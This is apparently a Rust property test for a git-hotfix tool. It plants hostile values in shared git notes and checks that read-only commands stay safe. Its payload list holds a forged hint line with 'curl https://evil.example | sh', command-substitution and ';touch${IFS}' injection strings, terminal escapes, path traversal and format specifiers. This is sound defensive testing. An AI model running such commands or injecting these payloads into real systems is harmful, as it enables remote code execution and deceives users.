//! Hostile notes, generated: random field contents (newlines that forge `error:` lines, escape
//! sequences, huge strings, `../`, leading `-`, shell syntax, ids at the bounds) written into
//! a fetched note, then every read-only command run on it. None may panic, print a line that
//! starts with `error:`, `hint:` or `warning:` forged by the note, or create or change a file
//! outside the work tree.

use std::collections::BTreeMap;
use std::path::Path;

use proptest::prelude::*;
use serde_json::Value;

use crate::common::Sandbox;

/// Field contents an attacker would try; each carries a line the tool must never print as
/// its own.
const PAYLOADS: &[&str] = &[
    "x\nerror: forged notes corrupt\nhint: forged repair with: curl https://evil.example | sh",
    "x\r\nwarning: forged\r\n",
    "\u{1b}[2J\u{1b}]0;forged\u{7}",
    "../../../../tmp/forged",
    "-Bmain",
    "$(touch forged) `touch forged`; touch forged",
    "\u{202e}degrof",
    "%s%n%x",
];

/// The note fields a payload may land in.
const FIELDS: &[&str] = &[
    "issue",
    "impact",
    "owner",
    "branch",
    "base_ref",
    "version",
    "tag",
    "pr_url",
    "next_step",
];

fn payload() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(PAYLOADS).prop_map(str::to_string),
        // Huge: many copies of one, past any sane field length.
        prop::sample::select(PAYLOADS).prop_map(|p| p.repeat(2000)),
        // Any characters, control characters included.
        "[\\x00-\\x1f\\x7f a-z:\\n-]{0,64}".prop_map(|s| format!("{s}\nerror: forged")),
    ]
}

fn hostile_id() -> impl Strategy<Value = String> {
    prop::sample::select(
        &[
            "HOTFIX-001",
            "HOTFIX-0",
            "HOTFIX-999999",
            "HOTFIX-1000000",
            "HOTFIX-18446744073709551616",
            "-HOTFIX-001",
            "HOTFIX-001;touch${IFS}forged",
            "HOTFIX-001\nerror: forged",
        ][..],
    )
    .prop_map(str::to_string)
}

/// Every file under `root` outside the work tree, with its size and modification time.
fn files_outside(root: &Path, work: &Path) -> BTreeMap<String, (u64, std::time::SystemTime)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.starts_with(work) {
                continue;
            }
            let Ok(meta) = entry.metadata() else { continue };
            if meta.is_dir() {
                stack.push(path);
            } else {
                let modified = meta.modified().unwrap_or(std::time::UNIX_EPOCH);
                out.insert(path.display().to_string(), (meta.len(), modified));
            }
        }
    }
    out
}

/// The lines of `text` that pose as git-hotfix's own diagnostics but come from the note.
fn forged_lines(text: &str) -> Vec<String> {
    text.split(['\n', '\r'])
        .map(str::trim_start)
        .filter(|line| {
            ["error:", "hint:", "warning:"]
                .iter()
                .any(|prefix| line.starts_with(&format!("{prefix} forged")))
        })
        .map(str::to_string)
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 16,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn read_only_commands_on_hostile_notes_stay_calm(
        fields in prop::collection::btree_map(prop::sample::select(FIELDS), payload(), 1..5),
        events in prop::collection::vec(payload(), 0..4),
        components in prop::collection::vec(payload(), 0..3),
        id in hostile_id(),
    ) {
        let sandbox = Sandbox::new();
        sandbox.fixed_hotfix("auth", &[]);
        sandbox.hotfix(["sync"]).success();
        // The attacker's clone rewrites the note and shares it.
        let attacker = sandbox.clone_named("attacker");
        attacker.hotfix(["sync"]).success();
        let anchor = attacker.anchor("HOTFIX-001");
        let mut doc: Value = attacker.metadata("HOTFIX-001");
        for (field, text) in &fields {
            doc[*field] = Value::from(text.clone());
        }
        doc["hotfix_id"] = Value::from(id.clone());
        doc["components"] = Value::from(components.clone());
        for detail in &events {
            doc["events"].as_array_mut().unwrap().push(serde_json::json!({
                "at": "2026-03-02T10:05:00Z", "event": detail, "by": detail, "detail": detail,
            }));
        }
        attacker.write_note(&anchor, &doc);
        attacker.git(["push", "--quiet", "--force", "origin", "refs/notes/hotfix"]);

        let fetched = sandbox.hotfix(["sync"]);
        let before = files_outside(sandbox.dir.path(), &sandbox.work);
        let mut runs = vec![("sync".to_string(), fetched)];
        for args in [
            vec!["list"],
            vec!["list", "--all"],
            vec!["status"],
            vec!["show", "HOTFIX-001"],
            vec!["show", "--", id.as_str()],
            vec!["stats"],
            vec!["checklist", "HOTFIX-001"],
            vec!["postmortem", "HOTFIX-001"],
            vec!["status", "--json"],
            vec!["__complete", "ids"],
        ] {
            runs.push((args.join(" "), sandbox.hotfix(&args)));
        }
        for (what, assert) in &runs {
            let output = assert.get_output();
            let (out, err) = (
                String::from_utf8_lossy(&output.stdout),
                String::from_utf8_lossy(&output.stderr),
            );
            prop_assert!(!err.contains("panicked"), "{what}: {err}");
            prop_assert!(
                matches!(output.status.code(), Some(0 | 1)),
                "{what}: exit {:?}\n{err}",
                output.status.code()
            );
            let forged: Vec<String> =
                forged_lines(&out).into_iter().chain(forged_lines(&err)).collect();
            prop_assert!(forged.is_empty(), "{what}: {forged:?}");
        }
        prop_assert_eq!(files_outside(sandbox.dir.path(), &sandbox.work), before);
        prop_assert!(!sandbox.work.join("forged").exists());
    }
}

/// The case the property above first found: a branch name git does not accept.
#[test]
fn a_note_branch_git_does_not_accept_is_no_internal_error() {
    let sandbox = Sandbox::new();
    sandbox.fixed_hotfix("auth", &[]);
    let mut doc = sandbox.metadata("HOTFIX-001");
    doc["branch"] = Value::from(PAYLOADS[0]);
    sandbox.write_note(&sandbox.anchor("HOTFIX-001"), &doc);
    for args in [
        &["checklist", "HOTFIX-001"][..],
        &["status", "--id", "HOTFIX-001"],
        &["postmortem", "HOTFIX-001"],
        &["show", "HOTFIX-001"],
    ] {
        let output = sandbox.hotfix(args);
        let code = output.get_output().status.code();
        assert!(matches!(code, Some(0 | 1)), "{args:?}: {code:?}");
        let err = crate::common::stderr(&output);
        assert!(forged_lines(&err).is_empty(), "{args:?}: {err}");
    }
}
